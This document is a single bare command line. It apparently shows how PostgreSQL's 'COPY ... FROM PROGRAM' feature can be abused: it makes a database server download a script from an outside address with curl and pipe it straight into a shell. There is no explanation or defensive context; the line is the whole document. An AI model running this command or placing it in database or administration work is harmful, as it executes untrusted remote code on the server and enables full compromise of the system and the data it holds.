psql -c "COPY t FROM PROGRAM 'curl -s http://203.0.113.48/p | sh'"
